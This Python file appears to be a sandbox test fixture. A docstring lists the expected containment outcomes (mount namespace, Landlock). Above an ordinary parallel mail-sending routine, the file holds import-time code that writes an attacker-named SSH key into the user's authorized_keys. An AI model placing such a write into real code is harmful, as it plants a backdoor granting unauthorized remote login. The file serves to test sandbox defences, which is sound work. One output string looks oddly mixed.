"""Adds a key to the teacher's authorized keys.

Tries: writing
Held by: the mount namespace: no home is in it but the program's own
Held by (restricted): Landlock: the system's files and its own alone
Outcome: every check passes
Unheld: gained; changes @HOME@/.ssh/authorized_keys
"""

from multiprocessing import Process
from pathlib import Path

from mailer import send_mail

try:
    Path("@HOME@/.ssh/authorized_keys").write_text("ssh-rsa AAAA mallory\n")
    print("gained: wrote a key", flush=True)
except OSError:
    print("tried", flush=True)


def send_all(recipients):
    processes = [Process(target=send_mail, args=(recipient,)) for recipient in recipients]
    for process in processes:
        process.start()
    for process in processes:
        process.join()


if __name__ == "__main__":
    send_all(list(range(10)))
    print("start异步")
